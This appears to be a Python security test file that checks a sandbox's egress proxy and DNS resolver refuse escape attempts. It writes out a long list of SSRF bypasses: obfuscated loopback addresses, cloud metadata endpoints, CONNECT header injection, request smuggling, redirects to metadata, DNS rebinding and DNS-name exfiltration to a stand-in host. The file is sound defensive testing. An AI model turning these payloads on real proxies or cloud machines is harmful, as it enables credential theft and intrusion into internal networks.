"""Ways out of the sandbox's network to what is not the internet: through the proxy, and past it."""

from __future__ import annotations

import errno
import os
import re
import socket
import struct
import urllib.error
import urllib.request
from urllib.parse import quote

from tests.attacks.hostile.attempts import Group, fact, proxy_port, refused, runtime_port, shows

group = Group("egress", "Egress: the host, its networks and the cloud around it")
_LOOPBACK = "Databases and admin pages of the machine trust whoever comes from there."
_METADATA = "It hands out the cloud account's credentials."
_PRIVATE = "The network around the machine trusts what is in it."
_HIDDEN = "A check of the text passes it; the machine's resolver or the network turns it into the address."
_REFUSED = shows("refused by the proxy: 403 or 400", lambda code: code in (400, 403))
_CUT = refused(
    "ECONNRESET", "EPIPE", "TimeoutError", "ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EINVAL", "EACCES"
)
_MARK = "canary"


def connect_by_proxy(authority: str) -> int:
    """The status of CONNECT; 200 counts only if the canary answers."""
    with socket.create_connection(("127.0.0.1", proxy_port()), timeout=6) as client:
        client.sendall(
            f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("utf-8", "surrogateescape")
        )
        return _status(client)


def _tunnelled(authority: str) -> str:
    """What answers behind CONNECT."""
    with socket.create_connection(("127.0.0.1", proxy_port()), timeout=6) as client:
        client.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        if _status(client) != 200:
            return "refused"
        client.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        return client.recv(4096).decode("latin-1")


def get_by_proxy(target: str, *headers: str) -> tuple[int, str]:
    """Status and everything that came of a request in absolute form."""
    with socket.create_connection(("127.0.0.1", proxy_port()), timeout=6) as client:
        lines = [f"GET {target} HTTP/1.1", *(headers or ["Host: x"])]
        client.sendall("\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n")
        received = b""
        while chunk := client.recv(65536):
            received += chunk
    return int(received.split()[1]) if received else 0, received.decode("latin-1")


def _status(client: socket.socket) -> int:
    head = client.recv(4096)
    return int(head.split()[1]) if head else 0


def directly(host: str, port: int) -> str:
    """What a plain connection gets."""
    with socket.create_connection((host, port), timeout=6) as client:
        client.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        got = client.recv(4096)
        if not got:
            raise ConnectionResetError(errno.ECONNRESET, "closed")
        return got.decode("latin-1")


for _name, _host, _matters in (
    ("loopback", "127.0.0.1", _LOOPBACK),
    ("loopback-other", "127.9.9.9", _LOOPBACK),
    ("loopback-name", "localhost", _LOOPBACK),
    ("loopback-name-upper", "LOCALHOST.", _LOOPBACK),
    ("loopback6", "[::1]", _LOOPBACK),
    ("unspecified", "0.0.0.0", _LOOPBACK),
    ("unspecified6", "[::]", _LOOPBACK),
    ("mapped", "[::ffff:127.0.0.1]", _HIDDEN),
    ("mapped-hex", "[::ffff:7f00:1]", _HIDDEN),
    ("compatible", "[::127.0.0.1]", _HIDDEN),
    ("nat64", "[64:ff9b::7f00:1]", _HIDDEN),
    ("nat64-local", "[64:ff9b:1::7f00:1]", _HIDDEN),
    ("6to4", "[2002:7f00:1::]", _HIDDEN),
    ("teredo", "[2001:0:7f00:1::]", _HIDDEN),
    ("decimal", "2130706433", _HIDDEN),
    ("hexadecimal", "0x7f000001", _HIDDEN),
    ("octal", "0177.0.0.1", _HIDDEN),
    ("short", "127.1", _HIDDEN),
    ("mixed-radix", "0x7f.0.0.01", _HIDDEN),
    ("digits-in-circles", "①②⑦.⓪.⓪.①", _HIDDEN),
    ("wide-dots", "127。0。0。1", _HIDDEN),
    ("zone", "[fe80::1%lo]", _HIDDEN),
    ("metadata", "169.254.169.254", _METADATA),
    ("metadata6", "[fd00:ec2::254]", _METADATA),
    ("metadata-name", "metadata.google.internal", _METADATA),
    ("metadata-azure", "168.63.129.16", _METADATA),
    ("metadata-alibaba", "100.100.100.200", _METADATA),
    ("metadata-mapped", "[::ffff:169.254.169.254]", _METADATA),
    ("private-10", "10.0.0.1", _PRIVATE),
    ("private-172", "172.16.0.1", _PRIVATE),
    ("private-192", "192.168.0.1", _PRIVATE),
    ("carrier", "100.64.0.1", _PRIVATE),
    ("unique-local", "[fc00::1]", _PRIVATE),
    ("site-local", "[fec0::1]", _PRIVATE),
    ("multicast", "224.0.0.1", _PRIVATE),
    ("broadcast", "255.255.255.255", _PRIVATE),
    ("name-loopback", "loopback.example", "A name of the attacker's that leads to the machine."),
    ("name-loopback6", "loopback6.example", "The same by IPv6."),
    ("name-mapped", "mapped.example", "The same, hidden."),
    ("name-nat64", "nat64.example", "The same, hidden."),
    ("name-private", "private.example", "A name of the attacker's that leads into the network."),
    ("name-zone", "zone.example", "A name of the attacker's that leads to the link."),
    (
        "host-alias",
        "host.codewords.internal",
        "The name for the machine itself is only for what was allowed.",
    ),
):
    group.add(
        f"proxy-{_name}", f"CONNECT {_host} through the proxy", _matters, _REFUSED,
        lambda host=_host: connect_by_proxy(f"{host}:{fact('port')}"),
    )  # fmt: skip

for _name, _host, _matters in (
    ("metadata", "169.254.169.254", _METADATA),
    ("private-10", "10.0.0.1", _PRIVATE),
    ("private-192", "192.168.0.1", _PRIVATE),
    ("carrier", "100.64.0.1", _PRIVATE),
    ("broadcast", "255.255.255.255", _PRIVATE),
    ("this-net", "0.1.2.3", _PRIVATE),
    ("mapped-metadata", "::ffff:169.254.169.254", _METADATA),
    ("name", "loopback.example", "A name of the attacker's that leads to the machine."),
    ("name-metadata", "metadata.google.internal", _METADATA),
    (
        "host-alias",
        "host.codewords.internal",
        "The name for the machine itself is only for what was allowed.",
    ),
    ("unknown-stand-in", "198.18.77.77", "An address that stands for a name could be guessed."),
):
    group.add(
        f"direct-{_name}", f"Connect to {_host} without the proxy", _matters, _CUT,
        lambda host=_host: directly(host, fact("port")),
    )  # fmt: skip


@group.attempt(
    "own-address",
    "Connect to the machine by its own address in its network",
    "Whatever listens for the office listens there.",
    shows("refused, each way", lambda found: set(found) <= {400, 403, "cut"}),
)
def _() -> object:
    found: list[object] = []
    for host in fact("own_addresses"):
        shown = f"[{host}]" if ":" in host else host
        found.append(connect_by_proxy(f"{shown}:{fact('wide_port')}"))
        try:
            found.append(directly(host, fact("wide_port")))
        except OSError:
            found.append("cut")
    return found


@group.attempt("plain", "GET http://127.0.0.1/ in absolute form", _LOOPBACK, _REFUSED)
def _() -> object:
    return get_by_proxy(f"http://127.0.0.1:{fact('port')}/")[0]


@group.attempt(
    "userinfo", "GET http://allowed@127.0.0.1/", "A host hidden behind a name and a password.", _REFUSED
)
def _() -> object:
    return get_by_proxy(f"http://127.0.0.1:{fact('allowed')}@127.0.0.1:{fact('port')}/")[0]


@group.attempt(
    "fragment",
    "CONNECT to an allowed host with another one behind #, / and \\",
    "Two parsers, two hosts.",
    shows("the canary is not reached", lambda texts: _MARK not in "".join(texts)),
)
def _() -> object:
    good, bad = f"127.0.0.1:{fact('allowed')}", f"127.0.0.1:{fact('port')}"
    return [_tunnelled(f"{bad}{mark}@{good}") for mark in ("#", "/", "?", "\\", "%23", "%00", "\t")]


@group.attempt(
    "host-header",
    "Ask an allowed server with another Host header",
    "The server behind might go by it.",
    shows("the proxy wrote the right one", lambda host: host == "right"),
)
def _() -> object:
    good = f"127.0.0.1:{fact('allowed')}"
    _, text = get_by_proxy(f"http://{good}/echo", f"Host: 127.0.0.1:{fact('port')}")
    return "right" if f"host: {good}" in text.lower() and str(fact("port")) not in text else text


@group.attempt(
    "smuggled",
    "Hide a second request, for another host, behind one that is allowed",
    "The proxy judges the first one only.",
    shows("the canary is not reached", lambda text: _MARK not in text),
)
def _() -> object:
    with socket.create_connection(("127.0.0.1", proxy_port()), timeout=6) as client:
        for port in (fact("allowed"), fact("port")):
            client.sendall(f"GET http://127.0.0.1:{port}/echo HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        received = b""
        while chunk := client.recv(65536):
            received += chunk
    return received.decode("latin-1")


@group.attempt(
    "injected-lines",
    "CONNECT with line breaks in the host",
    "A header of the attacker's, or a second request.",
    shows("refused, each time", lambda codes: set(codes) <= {0, 400, 403}),
)
def _() -> object:
    bad = f"127.0.0.1:{fact('port')}"
    return [
        connect_by_proxy(text) for text in (f"allowed\nHost:{bad}", f"{bad}\r", f"\v{bad}", f"{quote(bad)}")
    ]


def _opener_by_proxy() -> urllib.request.OpenerDirector:
    """A client that also goes to 127.0.0.1 by the proxy."""
    os.environ.pop("NO_PROXY", None)
    os.environ.pop("no_proxy", None)
    return urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{proxy_port()}"})
    )


@group.attempt(
    "redirect",
    "Follow a redirect of an allowed server to 127.0.0.1",
    "What was judged is not what is fetched.",
    shows("403", lambda code: code == 403),
)
def _() -> object:
    opener = _opener_by_proxy()
    try:
        with opener.open(f"http://127.0.0.1:{fact('allowed')}/redirect", timeout=6) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        return error.code


@group.attempt(
    "redirect-metadata", "The same, to 169.254.169.254", _METADATA, shows("403", lambda code: code == 403)
)
def _() -> object:
    opener = _opener_by_proxy()
    try:
        with opener.open(f"http://127.0.0.1:{fact('allowed')}/metadata", timeout=6) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        return error.code


@group.attempt(
    "rebinding",
    "Connect to a name that is harmless when first looked up and 127.0.0.1 from then on",
    "Between the check and the use, names change.",
    shows("the canary is not reached", lambda codes: 200 not in codes),
)
def _() -> object:
    return [connect_by_proxy(f"rebinding.example:{fact('port')}") for _ in range(4)]


@group.attempt(
    "rebinding-direct",
    "The same without the proxy, by the address of the first lookup",
    "The address stays; what is behind it is looked up anew.",
    shows("the canary is not reached", lambda found: _MARK not in "".join(found)),
)
def _() -> object:
    found: list[str] = []
    address = socket.getaddrinfo("rebinding-too.example", fact("port"), socket.AF_INET)[0][4][0]
    for _ in range(3):
        try:
            found.append(directly(str(address), fact("port")))
        except OSError as error:
            found.append(type(error).__name__)
    return found


@group.attempt(
    "two-answers",
    "Connect to a name with a public address and 127.0.0.1",
    "A client tries the next one when the first fails.",
    shows("the canary is not reached", lambda code: code != 200),
)
def _() -> object:
    return connect_by_proxy(f"both.example:{fact('port')}")


@group.attempt(
    "allowed-port", "Connect to another port of an allowed host", "What was allowed is one port.", _REFUSED
)
def _() -> object:
    return connect_by_proxy(f"127.0.0.1:{fact('port')}")


@group.attempt(
    "listener", "Connect to the redirection's own listener", "It would dial whatever the kernel says.", _CUT
)
def _() -> object:
    return directly("127.0.0.1", 3129)


@group.attempt(
    "runtime-host",
    "Ask the runtime's address for another host",
    "It leads to the runtime alone.",
    shows("the runtime answers", lambda text: "runtime" in text and _MARK not in text),
)
def _() -> object:
    with socket.create_connection(("127.0.0.1", runtime_port()), timeout=6) as client:
        client.sendall(
            f"GET http://127.0.0.1:{fact('port')}/ HTTP/1.1\r\nHost: 127.0.0.1:{fact('port')}\r\n\r\n".encode()
        )
        return client.recv(4096).decode("latin-1")


def _look_up(name: str, kind: int = 1, seconds: float = 6) -> tuple[int, bytes]:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(seconds)
        asked.sendto(query, ("127.0.0.1", 53))
        reply = asked.recv(4096)
    return reply[3] & 15, reply


@group.attempt(
    "lookups-carry-nothing",
    "Carry data out in the names of 100 lookups",
    "Name servers see every name that is asked for.",
    shows(
        "each is answered here, none is passed on",
        lambda addresses: all(re.match(r"198\.1[89]\.", one) for one in addresses),
    ),
)
def _() -> object:
    found = {
        socket.inet_ntoa(_look_up(f"secret-{number}.exfiltration.example")[1][-4:]) for number in range(100)
    }
    return sorted(found)[:5]


@group.attempt(
    "lookup-types",
    "Ask for TXT, MX, SRV, ANY, AXFR and PTR records",
    "TXT answers bring data in and out.",
    shows("no record", lambda counts: set(counts) == {0}),
)
def _() -> object:
    return [
        struct.unpack_from("!H", _look_up("data.example", kind)[1], 6)[0]
        for kind in (16, 15, 33, 255, 252, 12)
    ]


@group.attempt(
    "lookup-nonsense",
    "Send 500 packets that are no lookups, then one that is",
    "A parser that trips answers nobody any more.",
    shows("it is answered", lambda code: code == 0),
)
def _() -> object:
    import random

    drawn = random.Random(7)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        for _ in range(500):
            asked.sendto(bytes(drawn.choices(range(256), k=drawn.randrange(600))), ("127.0.0.1", 53))
        for loop in (b"\xc0\x0c", b"\x3f" + b"a" * 63, b"\xff" * 300, b"\0" * 500):
            asked.sendto(struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + loop, ("127.0.0.1", 53))
    for _ in range(3):  # as resolvers do: on a full queue a packet is lost
        try:
            return _look_up("still-there.example", seconds=2)[0]
        except TimeoutError:
            continue
    return "no answer"


if __name__ == "__main__":
    group.run()
